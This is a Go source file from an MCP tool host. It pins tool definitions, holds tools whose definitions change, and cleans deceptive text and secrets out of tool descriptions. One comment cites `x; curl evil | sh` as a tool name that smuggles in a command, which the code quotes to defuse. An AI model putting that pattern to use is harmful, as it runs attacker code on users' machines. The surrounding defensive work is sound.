package host

import (
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"sort"
	"strings"
	"sync"
	"time"

	"github.com/modelcontextprotocol/go-sdk/mcp"

	"github.com/switchboard-mcp/switchboard/config"
	"github.com/switchboard-mcp/switchboard/toolsurface"
	"github.com/switchboard-mcp/switchboard/trust"
)

// ErrToolHeld is wrapped by a [*HeldToolError]: the tool's definition is
// not the one pinned, and it is not served until the change is accepted.
var ErrToolHeld = errors.New("tool held: its definition changed since it was pinned")

// HeldToolError is a call of a tool that tool pinning holds
// (docs/security.md, What the model reads).
type HeldToolError struct {
	Server, Tool string
	// Reason says why, in one line.
	Reason string
	// Store says the tool pin store cannot be used (Reason names its file
	// and the fix): no change can be accepted until it is fixed, and
	// every tool of the server is held.
	Store bool
}

func (e *HeldToolError) Error() string {
	return fmt.Sprintf("tool %q of server %q is held: %s", e.Tool, e.Server, e.Reason)
}

func (e *HeldToolError) Unwrap() error { return ErrToolHeld }

// Hint says how a person sees and accepts the change that holds the tool:
// the commands, as they would type them.
func (e *HeldToolError) Hint() string {
	if e.Store {
		return "no `switchboard tools accept` helps until the tool pin store is fixed, as the reason says; then its tools are served again (or held if they changed)"
	}
	return fmt.Sprintf("see the change with `switchboard tools diff %s`; accept it with `%s`", e.Server, AcceptCommand(e.Server, e.Tool))
}

// AcceptCommand is the command line that accepts server's changed tool:
// `switchboard tools accept SERVER TOOL`, the tool's name — the server's
// own words — as one shell word (trust.Quote), after `--` when it starts
// with a dash, so that a person (or an agent) who runs the line as shown
// runs that command and nothing else, whatever the server named its tool
// (`x; curl evil | sh`, `$(…)`).
func AcceptCommand(server, tool string) string {
	word := trust.Quote(tool)
	if strings.HasPrefix(tool, "-") {
		word = "-- " + word
	}
	return "switchboard tools accept " + server + " " + word
}

// Kinds and states of a ToolChange.
const (
	// ChangeChanged: the tool was pinned, and its definition differs now.
	ChangeChanged = "changed"
	// ChangeAdded: a new tool of a server whose tools were pinned.
	ChangeAdded = "added"

	// ChangeHeld: not served until accepted.
	ChangeHeld = "held"
	// ChangeServed: served as it is now (toolChanges "notify"), and
	// reported until accepted.
	ChangeServed = "served"
	// ChangeAccepted: pinned as it is now (toolChanges "accept").
	ChangeAccepted = "accepted"
)

// ToolChange is one tool whose definition is not the pinned one.
type ToolChange struct {
	Server string `json:"server"`
	Tool   string `json:"tool"`
	// Name is the namespaced name, mcp__<server>__<tool>.
	Name string `json:"name"`
	// Kind is ChangeChanged or ChangeAdded; State is ChangeHeld,
	// ChangeServed or ChangeAccepted.
	Kind  string `json:"kind"`
	State string `json:"state"`
	// Reason says why it is in its state, in one line.
	Reason string `json:"reason"`
	// PinnedAt is when the definition it differs from was pinned (zero
	// for an added tool).
	PinnedAt time.Time `json:"pinnedAt,omitzero"`
	// Pinned and Current are the definitions (toolsurface.Definition);
	// Pinned is nil for an added tool.
	Pinned  json.RawMessage `json:"pinned,omitempty"`
	Current json.RawMessage `json:"current"`
	// Changes are the fields that differ, word by word.
	Changes []toolsurface.DefinitionChange `json:"changes"`
}

// ToolFindings are the deceptive characters found in one tool's, or
// prompt's, definition, and the schema text cut to its caps; what the
// model reads has them removed, made visible or cut.
type ToolFindings struct {
	// Tool is the tool's own name, or "prompt NAME" for a prompt.
	Tool     string                    `json:"tool"`
	Findings []toolsurface.TextFinding `json:"findings"`
}

// pinState is what the Host decided about one server's tool list: it is
// kept while the list and the pin store stay the same, so that a listing
// (every Call resolves through one) costs a comparison.
type pinState struct {
	s *server
	// raw is the list decided on (the cache's, as the server sent it) and
	// out what is served of it: cleaned, held tools left out.
	raw, out []*mcp.Tool
	gen      uint64
	// current holds the definition of every tool of raw, by name.
	current  map[string]json.RawMessage
	held     map[string]string // tool → reason
	changes  []ToolChange
	findings []ToolFindings
	pinErr   string
	// secretNamed counts the tools of raw left out because a name holds
	// a secret value (secretnames.go).
	secretNamed int
}

// pinSet holds the pin states of a Host's servers.
type pinSet struct {
	mu sync.Mutex
	m  map[string]*pinState
	// promptStates are the servers' prompt pin states (promptpins.go).
	promptStates map[string]*promptPinState
	// prompts are the findings in each server's prompts.
	prompts map[string][]ToolFindings
}

func (p *pinSet) get(name string) *pinState {
	p.mu.Lock()
	defer p.mu.Unlock()
	return p.m[name]
}

// sameList reports whether a and b are the very same list (a cached list
// keeps its identity until it is fetched again).
func sameList[T any](a, b []*T) bool {
	return len(a) == len(b) && (len(a) == 0 || &a[0] == &b[0])
}

// toolChangeMode is what a changed tool of a server the user wrote does.
func (h *Host) toolChangeMode() config.ToolChangeMode {
	if m := h.guardSettings().toolChanges; m != "" {
		return m
	}
	return config.ToolChangesNotify
}

// pinTools returns what is served of server s's tool list raw (as the
// server sent it): every tool cleaned of deceptive text
// (toolsurface.CleanTool) and, with a pin store, only the tools whose
// definition is the pinned one or that the rules let through
// (docs/security.md, What the model reads). The decision is kept while raw
// and the store stay the same.
func (h *Host) pinTools(s *server, raw []*mcp.Tool) []*mcp.Tool {
	var gen uint64
	if h.opts.Pins != nil {
		gen = h.opts.Pins.Generation()
	}
	h.pins.mu.Lock()
	prev := h.pins.m[s.name]
	h.pins.mu.Unlock()
	if prev != nil && prev.s == s && prev.gen == gen && (sameList(prev.raw, raw) || sameList(prev.out, raw) && raw != nil) {
		return prev.out
	}
	st := h.decidePins(s, raw)
	h.pins.mu.Lock()
	if h.pins.m == nil {
		h.pins.m = map[string]*pinState{}
	}
	h.pins.m[s.name] = st
	h.pins.mu.Unlock()
	h.reportChanges(s.name, prev, st)
	return st.out
}

// decidePins computes a server's pin state: what is served, held and
// changed.
func (h *Host) decidePins(s *server, all []*mcp.Tool) *pinState {
	// A tool whose name holds a secret is neither served nor pinned
	// (secretnames.go).
	raw, secretNamed := h.toolsWithoutSecretNames(all)
	if secretNamed > 0 {
		h.log.Warn("tools not served: a name the server gave holds a secret value Switchboard gave a server", "server", s.name, "tools", secretNamed)
	}
	st := &pinState{s: s, raw: all, secretNamed: secretNamed, current: make(map[string]json.RawMessage, len(raw)), held: map[string]string{}}
	store := h.opts.Pins
	cleaned := make([]*mcp.Tool, len(raw))
	known := 0
	for i, t := range raw {
		if store != nil {
			st.current[t.Name] = toolsurface.Definition(t)
		}
		var f []toolsurface.TextFinding
		cleaned[i], f = toolsurface.CleanTool(t)
		if len(f) > 0 {
			st.findings = append(st.findings, ToolFindings{Tool: t.Name, Findings: f})
		}
		// A definition is text the model reads at every turn, as a
		// result is: the secret values Switchboard gave servers are
		// replaced (the pin keeps what the server sent).
		cleaned[i], _ = toolsurface.MapToolText(cleaned[i], h.replaceKnown(&known))
		if meta, icons, ok := h.knownExtras(cleaned[i].Meta, cleaned[i].Icons, &known); ok {
			c := *cleaned[i]
			c.Meta, c.Icons = meta, icons
			cleaned[i] = &c
		}
	}
	if known > 0 {
		h.log.Warn("a tool definition held a secret value Switchboard gave a server; it was replaced", "server", s.name)
	}
	if store == nil {
		st.out = cleaned
		return st
	}
	st.gen = store.Generation()
	ws := h.workspace()
	if err := store.Err(); err != nil {
		st.pinErr = err.Error()
		for _, t := range raw {
			st.held[t.Name] = st.pinErr
		}
		st.out = []*mcp.Tool{}
		return st
	}
	pins, seen := store.Server(ws, s.name)
	if !seen {
		// First sight: what the server offers now is pinned (for a
		// project server, the first listing after its approval).
		if err := store.Pin(ws, s.name, st.current, h.clock.Now()); err != nil {
			st.pinErr = "its tools could not be pinned: " + err.Error()
			for _, t := range raw {
				st.held[t.Name] = st.pinErr
			}
			st.out = []*mcp.Tool{}
			return st
		}
		h.log.Info("tools pinned", "server", s.name, "tools", len(raw))
		st.gen = store.Generation()
		st.out = cleaned
		return st
	}
	repo := s.cfg.Trust == config.TrustRepo
	mode := h.toolChangeMode()
	accept := map[string]json.RawMessage{}
	st.out = make([]*mcp.Tool, 0, len(raw))
	// The word diffs of the whole list share one budget: a server decides
	// how many tools change, and how many words each field holds.
	diffBudget := toolsurface.DiffBudget
	for i, t := range raw {
		def := st.current[t.Name]
		pin, pinned := pins[t.Name]
		if pinned && pin.Digest == trust.DefinitionDigest(def) {
			st.out = append(st.out, cleaned[i])
			continue
		}
		c := ToolChange{Server: s.name, Tool: t.Name, Name: toolName(s.name, t.Name), Kind: ChangeAdded, Current: def}
		if pinned {
			c.Kind, c.PinnedAt = ChangeChanged, pin.PinnedAt
			c.Pinned, _ = store.Definition(pin.Digest)
		}
		c.Changes = toolsurface.DiffDefinitionsWithin(c.Pinned, def, &diffBudget)
		verb := "its definition changed since it was pinned"
		if c.Kind == ChangeAdded {
			verb = "it is new since the server's tools were pinned"
		}
		switch {
		case repo:
			c.State = ChangeHeld
			c.Reason = verb + " (a project server's changed tools wait until you accept them)"
		case mode == config.ToolChangesAccept:
			c.State = ChangeAccepted
			c.Reason = verb + `; accepted, as "toolChanges": "accept" says`
			accept[t.Name] = def
		case mode == config.ToolChangesAsk:
			c.State = ChangeHeld
			c.Reason = verb + ` ("toolChanges": "ask")`
		default:
			c.State = ChangeServed
			c.Reason = verb + `; served, as "toolChanges": "notify" says`
			if tool, kept := keepPinnedHints(cleaned[i], c.Pinned); tool != nil {
				cleaned[i] = tool
				c.Reason += "; its " + strings.Join(kept, ", ") + " stay as pinned until you accept the change"
			}
		}
		st.changes = append(st.changes, c)
		if c.State == ChangeHeld {
			st.held[t.Name] = c.Reason
			continue
		}
		st.out = append(st.out, cleaned[i])
	}
	if len(accept) > 0 {
		if err := store.Pin(ws, s.name, accept, h.clock.Now()); err != nil {
			// Not pinned: not served either.
			st.out = st.out[:0]
			for i, t := range raw {
				if _, ok := accept[t.Name]; ok {
					st.held[t.Name] = "its change could not be accepted: " + err.Error()
					continue
				}
				if _, held := st.held[t.Name]; !held {
					st.out = append(st.out, cleaned[i])
				}
			}
		}
		st.gen = store.Generation()
	}
	return st
}

// hints are the annotations of a pinned definition that give rights.
type hints struct {
	ReadOnlyHint    bool  `json:"readOnlyHint"`
	DestructiveHint *bool `json:"destructiveHint"`
	IdempotentHint  bool  `json:"idempotentHint"`
	OpenWorldHint   *bool `json:"openWorldHint"`
}

// keepPinnedHints returns a copy of t, served under "notify" although
// its definition changed, with each of its hints no looser than its
// pinned definition's, and the hints it kept; nil when the change
// loosened none. Hints give rights: a destructive hint turns a broad
// allow rule into a question (policy), a client may run a read-only tool
// without asking, the host retries an idempotent call after a crash. A
// server that changed them would otherwise have those rights from the
// moment it changed: the change is served, not the rights it would give
// itself, until it is accepted.
func keepPinnedHints(t *mcp.Tool, pinned json.RawMessage) (*mcp.Tool, []string) {
	var was struct {
		Annotations hints `json:"annotations"`
	}
	if json.Unmarshal(pinned, &was) != nil {
		return nil, nil
	}
	p := &was.Annotations
	var a mcp.ToolAnnotations
	if t.Annotations != nil {
		a = *t.Annotations
	}
	var kept []string
	if a.ReadOnlyHint && !p.ReadOnlyHint {
		a.ReadOnlyHint = false
		kept = append(kept, "readOnlyHint")
	}
	if p.DestructiveHint != nil && *p.DestructiveHint && (a.DestructiveHint == nil || !*a.DestructiveHint) {
		a.DestructiveHint = new(true)
		kept = append(kept, "destructiveHint")
	}
	if a.IdempotentHint && !p.IdempotentHint {
		a.IdempotentHint = false
		kept = append(kept, "idempotentHint")
	}
	if (p.OpenWorldHint == nil || *p.OpenWorldHint) && a.OpenWorldHint != nil && !*a.OpenWorldHint {
		a.OpenWorldHint = p.OpenWorldHint
		kept = append(kept, "openWorldHint")
	}
	if len(kept) == 0 {
		return nil, nil
	}
	cp := *t
	cp.Annotations = &a
	return &cp, kept
}

// reportChanges logs and announces (EventToolChange) the changes of next
// that prev did not have.
func (h *Host) reportChanges(server string, prev, next *pinState) {
	known := map[string]string{}
	if prev != nil {
		for _, c := range prev.changes {
			known[c.Tool] = c.State + string(c.Current)
		}
	}
	var fresh []ToolChange
	for _, c := range next.changes {
		if known[c.Tool] != c.State+string(c.Current) {
			fresh = append(fresh, c)
		}
	}
	for _, c := range fresh {
		fields := make([]string, len(c.Changes))
		for i, d := range c.Changes {
			fields[i] = d.Field
		}
		h.log.Warn("tool definition changed", "server", server, "tool", c.Tool, "kind", c.Kind, "state", c.State,
			"fields", strings.Join(fields, ", "))
	}
	if (prev == nil || prev.pinErr == "") && next.pinErr != "" {
		h.log.Error("tool pins cannot be used: no tool of the server is served", "server", server, "error", next.pinErr)
	}
	if len(fresh) > 0 {
		h.emit(Event{Kind: EventToolChange, Server: server, Changes: fresh})
	}
}

// heldTool returns the HeldToolError of a held tool of server (nil when
// it is not held).
func (h *Host) heldTool(server, tool string) error {
	st := h.pins.get(server)
	if st == nil {
		return nil
	}
	if why, ok := st.held[tool]; ok {
		return &HeldToolError{Server: server, Tool: tool, Reason: why, Store: st.pinErr != "" && why == st.pinErr}
	}
	return nil
}

// heldCall returns the HeldToolError for a namespaced name that no served
// tool answers but a held tool of one of servers would.
func (h *Host) heldCall(name string, servers []*server) error {
	for _, s := range servers {
		tool := strings.TrimPrefix(name, "mcp__"+toolsurface.SanitizePart(s.name)+"__")
		if err := h.heldTool(s.name, tool); err != nil {
			return err
		}
		if st := h.pins.get(s.name); st != nil { // a name the server's own was sanitized to
			for t := range st.held {
				if toolName(s.name, t) == name {
					return h.heldTool(s.name, t)
				}
			}
		}
	}
	return nil
}

// checkHeld is the pin check of a call routed to s's tool. It decides on
// the pins as they are now: serverTools reads the store's generation (a
// stat of its file: a change another process made, or a store it broke,
// is seen by this very call) and fetches the list again when it was
// dropped (list_changed, reconnect) since the route was made, so that a
// tool changed under a known name is held before it runs. It returns the
// server's served tools as it decided them (nil without a pin store, or
// when they could not be listed), for the permission check.
func (h *Host) checkHeld(ctx context.Context, s *server, tool string) ([]*mcp.Tool, error) {
	if h.opts.Pins == nil {
		return nil, nil
	}
	tools, _ := h.serverTools(ctx, s) // nil when it could not list them
	return tools, h.heldTool(s.name, tool)
}

// ToolChanges returns every tool whose definition is not the pinned one,
// as the servers last listed them: held, served (toolChanges "notify") or
// just accepted, sorted by server and tool.
func (h *Host) ToolChanges() []ToolChange {
	h.pins.mu.Lock()
	defer h.pins.mu.Unlock()
	var out []ToolChange
	for _, st := range h.pins.m {
		for _, c := range st.changes {
			if hid, _ := h.hidden(c.Server, c.Tool); !hid && h.scope.includes(c.Server) {
				out = append(out, c)
			}
		}
	}
	sort.Slice(out, func(i, j int) bool {
		if out[i].Server != out[j].Server {
			return out[i].Server < out[j].Server
		}
		return out[i].Tool < out[j].Tool
	})
	return out
}

// AcceptTools pins the definitions server's tools have now, as it last
// listed them: the named tools, or every changed tool when none is named.
// Held tools are then served, and EventToolsChanged is announced (a
// gateway's clients get list_changed). It returns the tools it pinned. A
// name that did not change, or that the server does not offer, is an
// error naming the changed tools.
func (h *Host) AcceptTools(server string, tools ...string) ([]string, error) {
	changes, err := h.AcceptToolChanges(server, tools...)
	if err != nil {
		return nil, err
	}
	var accepted []string
	for _, c := range changes {
		accepted = append(accepted, c.Tool)
	}
	return accepted, nil
}

// AcceptToolChanges is AcceptTools returning the changes it pinned, each
// with the definition pinned (Current) and what differs from the one
// pinned before: what a person who accepts a change unseen is shown.
func (h *Host) AcceptToolChanges(server string, tools ...string) ([]ToolChange, error) {
	s, err := h.server(server)
	if err != nil {
		return nil, err
	}
	if h.opts.Pins == nil {
		return nil, errors.New("tools are not pinned in this session")
	}
	if err := h.opts.Pins.Err(); err != nil {
		return nil, err
	}
	st := h.pins.get(server)
	if st == nil || st.s != s {
		return nil, fmt.Errorf("server %s has not listed its tools yet", server)
	}
	changed := map[string]*ToolChange{}
	var names []string
	for i, c := range st.changes {
		changed[c.Tool] = &st.changes[i]
		names = append(names, c.Tool)
	}
	sort.Strings(names)
	if len(tools) == 0 {
		tools = names
	}
	defs := map[string]json.RawMessage{}
	for _, t := range tools {
		if changed[t] == nil {
			list := "none"
			if len(names) > 0 {
				list = strings.Join(names, ", ")
			}
			if _, ok := st.current[t]; !ok {
				return nil, fmt.Errorf("server %s offers no tool %q (changed tools: %s)", server, t, list)
			}
			return nil, fmt.Errorf("tool %q of server %s has not changed since it was pinned (changed tools: %s)", t, server, list)
		}
		defs[t] = changed[t].Current
	}
	if len(defs) == 0 {
		return nil, nil
	}
	accepted, err := h.pinAccepted(server, defs)
	if err != nil {
		return nil, err
	}
	out := make([]ToolChange, len(accepted))
	for i, t := range accepted {
		out[i] = *changed[t]
	}
	return out, nil
}

// AcceptChange pins the definition c shows (c.Current) for c's tool: the
// one a person was shown and said yes to. A server that changed the tool
// again while it was asked (list_changed while the question waited) gets
// that definition held, as a change of its own, and never pinned unseen.
// c is a change the Host reported ([Host.ToolChanges], an
// [EventToolChange]); its tool must still be changed.
func (h *Host) AcceptChange(c ToolChange) error {
	s, err := h.server(c.Server)
	if err != nil {
		return err
	}
	if h.opts.Pins == nil {
		return errors.New("tools are not pinned in this session")
	}
	if err := h.opts.Pins.Err(); err != nil {
		return err
	}
	st := h.pins.get(c.Server)
	if st == nil || st.s != s {
		return fmt.Errorf("server %s has not listed its tools yet", c.Server)
	}
	changed := false
	for _, sc := range st.changes {
		changed = changed || sc.Tool == c.Tool
	}
	if !changed || len(c.Current) == 0 {
		return fmt.Errorf("tool %q of server %s has not changed since it was pinned", c.Tool, c.Server)
	}
	_, err = h.pinAccepted(c.Server, map[string]json.RawMessage{c.Tool: c.Current})
	return err
}

// pinAccepted pins defs, accepted changes of server's tools, and
// announces it; it returns the tools, sorted.
func (h *Host) pinAccepted(server string, defs map[string]json.RawMessage) ([]string, error) {
	if err := h.opts.Pins.Pin(h.workspace(), server, defs, h.clock.Now()); err != nil {
		return nil, err
	}
	accepted := make([]string, 0, len(defs))
	for t := range defs {
		accepted = append(accepted, t)
	}
	sort.Strings(accepted)
	h.log.Info("tool changes accepted", "server", server, "tools", strings.Join(accepted, ", "))
	h.emit(Event{Kind: EventToolsChanged, Server: server})
	return accepted, nil
}

// pinStatus fills the pin fields of a server's status.
func (h *Host) pinStatus(st *ServerStatus) {
	p := h.pins.get(st.Name)
	if p == nil {
		return
	}
	st.PinError = p.pinErr
	st.SecretNamed = p.secretNamed
	for t := range p.held {
		if hid, _ := h.hidden(st.Name, t); !hid {
			st.Held = append(st.Held, t)
		}
	}
	sort.Strings(st.Held)
	for _, c := range p.changes {
		if hid, _ := h.hidden(c.Server, c.Tool); !hid {
			st.ToolChanges = append(st.ToolChanges, c)
		}
	}
	st.Findings = append(st.Findings, p.findings...)
	h.pins.mu.Lock()
	st.Findings = append(st.Findings, h.pins.prompts[st.Name]...)
	h.pins.mu.Unlock()
}

// notePromptFindings records what was found in server's prompts.
func (h *Host) notePromptFindings(server string, f []ToolFindings) {
	h.pins.mu.Lock()
	defer h.pins.mu.Unlock()
	if h.pins.prompts == nil {
		h.pins.prompts = map[string][]ToolFindings{}
	}
	h.pins.prompts[server] = f
}
